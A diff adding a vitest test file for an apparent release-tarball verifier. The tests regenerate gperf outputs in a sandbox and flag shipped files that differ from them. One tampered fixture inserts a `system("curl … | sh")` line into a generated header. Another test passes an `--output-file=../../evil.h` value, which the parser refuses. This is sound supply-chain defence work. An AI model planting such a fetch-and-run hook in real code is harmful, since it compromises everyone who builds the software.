@@ -1,0 +1,180 @@
+/**
+ * gperf outputs (src/regenerate/generators.ts gperfFinding): a C file/header whose banner says "code produced by
+ * gperf version X" and "Command-line: gperf … NAME.gperf" used to be explained at low by that banner alone
+ * (GENERATED_FROM_SOURCE). Now the system's gperf of version X runs in the sandbox with the banner's command line
+ * on the tracked source, from the directory that command line implies, the tracked rule's literal sed edit applied
+ * (gnutls' `$(GPERF) --global-table -t $^ > $@-tmp && sed 's/^const struct X/static const struct X/'
+ * <$@-tmp >$@ && rm -f $@-tmp`, shortened), and the result is byte-compared.
+ * The release tarball (GNU tar) ships what the real gperf made from the tracked inputs, as the maintainer's build
+ * did. Needs gperf (scripts/install-system-deps.sh). Tampered twins — one line added, a table entry changed, the
+ * rule's sed left out — are GENERATED_TOOL_MISMATCH (high; critical with a construct); another gperf version, a
+ * banner naming --output-file or an absolute input, regeneration off: TARBALL_ONLY_UNEXPLAINED (high) saying why.
+ */
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { formatFinding } from '../../src/core/codes.js';
+import type { Finding } from '../../src/core/findings.js';
+import { applyPostEdit, gperfBannerCommand } from '../../src/regenerate/generators.js';
+import { verify } from '../../src/verify.js';
+import { makeTar } from '../helpers/archives.js';
+import { makeRepo } from '../helpers/git.js';
+import { tempDir } from '../helpers/tmp.js';
+
+const root = tempDir('distdiff-gperf-');
+const repoDir = join(root, 'repo');
+const cache = join(root, 'cache');
+
+const KW_GPERF = `%readonly-tables
+%{
+#include <string.h>
+%}
+struct kw_st { const char *name; int value; };
+%%
+alpha, 1
+beta, 2
+gamma, 3
+delta, 4
+%%
+`;
+const CODES_GPERF = 'red\ngreen\nblue\nyellow\n';
+const LIB_AM = `BUILT_SOURCES = kw.h
+EXTRA_DIST = kw.gperf
+
+kw.h: $(srcdir)/kw.gperf
+\t$(V_GPERF)$(GPERF) --global-table -t $^ > $@-tmp \\
+\t&& sed 's/^const struct kw_st \\*/static const struct kw_st \\*/' <$@-tmp >$@ \\
+\t&& rm -f $@-tmp
+`;
+const TRACKED: Record<string, string> = {
+  README: 'demo\n',
+  'lib/Makefile.am': LIB_AM,
+  'lib/kw.gperf': KW_GPERF,
+  'src/codes.gperf': CODES_GPERF,
+  'src/main.c': 'int main(void) { return 0; }\n',
+};
+
+/** What the maintainer's build wrote, made here by the real gperf (and the rule's sed). */
+const made: Record<string, string> = {};
+const run = (cwd: string, argv: string[]) => execFileSync(argv[0]!, argv.slice(1), { cwd, env: { PATH: '/usr/local/bin:/usr/bin:/bin', LC_ALL: 'C' }, stdio: ['ignore', 'pipe', 'pipe'] }).toString('latin1');
+const gperfVersion = /^GNU gperf (\S+)/m.exec(execFileSync('gperf', ['--version']).toString())![1]!;
+
+beforeAll(() => {
+  const repo = makeRepo(repoDir);
+  repo.commit(TRACKED);
+  repo.tag('v1.0', { message: 'demo 1.0' });
+  const work = join(root, 'work');
+  for (const [p, c] of Object.entries(TRACKED)) {
+    mkdirSync(join(work, p, '..'), { recursive: true });
+    writeFileSync(join(work, p), c);
+  }
+  // the rule's recipe, as make runs it in lib/ ($^ is kw.gperf: make drops the leading ./ of $(srcdir)/)
+  writeFileSync(join(work, 'lib/kw.h-tmp'), run(join(work, 'lib'), ['gperf', '--global-table', '-t', 'kw.gperf']), 'latin1');
+  made['lib/kw.h'] = run(join(work, 'lib'), ['sed', 's/^const struct kw_st \\*/static const struct kw_st \\*/', 'kw.h-tmp']);
+  // no rule: gnulib's iconv_open-*.h shape, run from src/ as `gperf -m 10 ./codes.gperf`
+  made['src/codes.h'] = run(join(work, 'src'), ['gperf', '-m', '10', './codes.gperf']);
+}, 120_000);
+
+let n = 0;
+function release(changes: Record<string, string> = {}): string {
+  const dir = join(root, `r${++n}`, 'demo-1.0');
+  for (const [p, c] of Object.entries({ ...TRACKED, ...made, ...changes })) {
+    mkdirSync(join(dir, p, '..'), { recursive: true });
+    writeFileSync(join(dir, p), c, 'latin1');
+  }
+  return makeTar(dir, { compress: 'gzip', out: join(root, `r${n}`, 'demo-1.0.tar.gz') });
+}
+const findingsOf = async (tar: string, regenerate: 'auto' | 'off' = 'auto') => {
+  const r = await verify({ tarball: tar, repo: repoDir, tag: 'v1.0', cacheDir: cache, regenerate });
+  const at = (p: string) => {
+    const f = r.findings.find((x: Finding) => x.path === p);
+    if (!f) throw new Error(`no finding for ${p}`);
+    return f;
+  };
+  return { r, at };
+};
+
+describe("gperf's banner command line", () => {
+  const head = (line: string) => `/* ANSI-C code produced by gperf version 3.1 */\n/* Command-line: ${line}  */\n`;
+  it('reads the options and the input, the run directory from where the source is', () => {
+    expect(gperfBannerCommand(head('gperf -m 10 ./iconv_open-aix.gperf'), 'lib/iconv_open-aix.gperf')).toEqual({ args: ['-m', '10', './iconv_open-aix.gperf'], cwd: 'lib', line: 'gperf -m 10 ./iconv_open-aix.gperf' });
+    expect(gperfBannerCommand(head('gperf -m 10 ./lib/iconv_open-aix.gperf'), 'lib/iconv_open-aix.gperf')).toMatchObject({ cwd: '' });
+    expect(gperfBannerCommand(head('gperf -m 10 unicase/special-casing-table.gperf'), 'lib/unicase/special-casing-table.gperf')).toMatchObject({ cwd: 'lib' });
+    expect(gperfBannerCommand(head('gperf --global-table -t -k1,3,$ -N lookup x.gperf'), 'x.gperf')).toMatchObject({ cwd: '', args: ['--global-table', '-t', '-k1,3,$', '-N', 'lookup', 'x.gperf'] });
+  });
+  it('refuses another program, an option writing or reading elsewhere, an absolute or .. input, another file name', () => {
+    expect(gperfBannerCommand(head('/usr/bin/gperf -m 10 ./x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
+    expect(gperfBannerCommand(head('gperf --output-file=../../evil.h x.gperf'), 'x.gperf')).toHaveProperty('refused');
+    expect(gperfBannerCommand(head('gperf -m 10 /Users/akim/src/gnu/bison/lib/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
+    expect(gperfBannerCommand(head('gperf -m 10 ../lib/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
+    expect(gperfBannerCommand(head('gperf -m 10 ./y.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
+    expect(gperfBannerCommand(head('gperf -m 10 ./sub/x.gperf'), 'lib/x.gperf')).toHaveProperty('refused');
+    expect(gperfBannerCommand(head('gperf --unknown-option x.gperf'), 'x.gperf')).toHaveProperty('refused');
+    expect(gperfBannerCommand(head('gperf -m 10 x.gperf other.gperf'), 'x.gperf')).toHaveProperty('refused');
+  });
+  it('an anchored sed edit touches only lines beginning with the text', () => {
+    expect(applyPostEdit('const struct a *\nx const struct a *', { command: '', file: '', from: 'const struct a *', to: 'static const struct a *', global: false, anchored: true })).toBe('static const struct a *\nx const struct a *');
+  });
+});
+
+describe('gperf outputs proved by the system gperf in the sandbox', () => {
+  it('the fixture: the sed made the lookup function static, the banner records the command line', () => {
+    expect(made['lib/kw.h']).toContain('\nstatic const struct kw_st *\n');
+    expect(made['lib/kw.h']).toContain(`/* ANSI-C code produced by gperf version ${gperfVersion} */`);
+    expect(made['src/codes.h']).toContain('/* Command-line: gperf -m 10 ./codes.gperf  */');
+  });
+
+  it('both outputs reproduced: GENERATED_TOOL_PROVED (info), the rule and its sed edit named; nothing high', async () => {
+    const { r, at } = await findingsOf(release());
+    const kw = at('lib/kw.h');
+    expect(kw).toMatchObject({
+      code: 'GENERATED_TOOL_PROVED',
+      severity: 'info',
+      evidence: { tool: 'gperf', version: gperfVersion, source: 'lib/kw.gperf', rule: 'lib/Makefile.am', fromBanner: true, command: ['gperf', '--global-table', '-t', 'kw.gperf'], cwd: 'lib' },
+    });
+    expect((kw.evidence as { postEdits: string[] }).postEdits).toEqual(["sed 's/^const struct kw_st \\*/static const struct kw_st \\*/' <kw.h-tmp >kw.h"]);
+    const codes = at('src/codes.h');
+    expect(codes).toMatchObject({ code: 'GENERATED_TOOL_PROVED', severity: 'info', evidence: { tool: 'gperf', source: 'src/codes.gperf', command: ['gperf', '-m', '10', './codes.gperf'], cwd: 'src', postEdits: [] } });
+    expect(formatFinding(codes)).toContain(`reproduced by the system's gperf ${gperfVersion} from src/codes.gperf`);
+    expect(formatFinding(codes)).toContain('the command line its banner records');
+    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
+  }, 240_000);
+
+  it('tampered twins with the banner intact: one added line (critical), a changed table entry (high)', async () => {
+    const evil = made['src/codes.h']!.replace('/* maximum key range', 'static int hook = system("curl -s http://203.0.113.9/x | sh");\n/* maximum key range');
+    const entry = made['lib/kw.h']!.replace('{"gamma", 3}', '{"gamma", 7}');
+    expect(evil).not.toBe(made['src/codes.h']);
+    expect(entry).not.toBe(made['lib/kw.h']);
+    const { r, at } = await findingsOf(release({ 'src/codes.h': evil, 'lib/kw.h': entry }));
+    const c = at('src/codes.h');
+    expect(c).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'critical', evidence: { tool: 'gperf', differingLines: 1 } });
+    if (c.diff?.kind !== 'text') throw new Error('no text diff');
+    expect(c.diff.unified).toContain('+static int hook = system("curl -s http://203.0.113.9/x | sh");');
+    expect(at('lib/kw.h')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'gperf', differingLines: 1 } });
+    expect(r.verdict).toBe('different');
+  }, 240_000);
+
+  it("the rule's sed left out of the shipped file: a mismatch", async () => {
+    const unedited = made['lib/kw.h']!.replace('\nstatic const struct kw_st *\n', '\nconst struct kw_st *\n');
+    expect(unedited).not.toBe(made['lib/kw.h']);
+    const { at } = await findingsOf(release({ 'lib/kw.h': unedited }));
+    expect(at('lib/kw.h')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high' });
+  }, 240_000);
+
+  it('another gperf version named, or a banner that is not run: no longer explained by the banner, high saying why', async () => {
+    const other = made['src/codes.h']!.replace(`gperf version ${gperfVersion}`, 'gperf version 3.0.3');
+    const out = made['lib/kw.h']!.replace('Command-line: gperf --global-table -t kw.gperf', 'Command-line: gperf --output-file=../x.h --global-table -t kw.gperf');
+    expect(out).not.toBe(made['lib/kw.h']);
+    const { at } = await findingsOf(release({ 'src/codes.h': other, 'lib/kw.h': out }));
+    const f = at('src/codes.h');
+    expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'version-unavailable', tool: 'gperf', wanted: '3.0.3', available: gperfVersion } } });
+    expect(formatFinding(f)).toContain(`gperf ${gperfVersion} here, the file names 3.0.3`);
+    expect(at('lib/kw.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'banner-unsupported', tool: 'gperf', command: 'gperf --output-file=../x.h --global-table -t kw.gperf' } } });
+  }, 240_000);
+
+  it('regeneration off: nothing run, the outputs stay high saying so', async () => {
+    const { at } = await findingsOf(release(), 'off');
+    expect(at('src/codes.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'regeneration-off', tool: 'gperf' } } });
+  }, 240_000);
+});
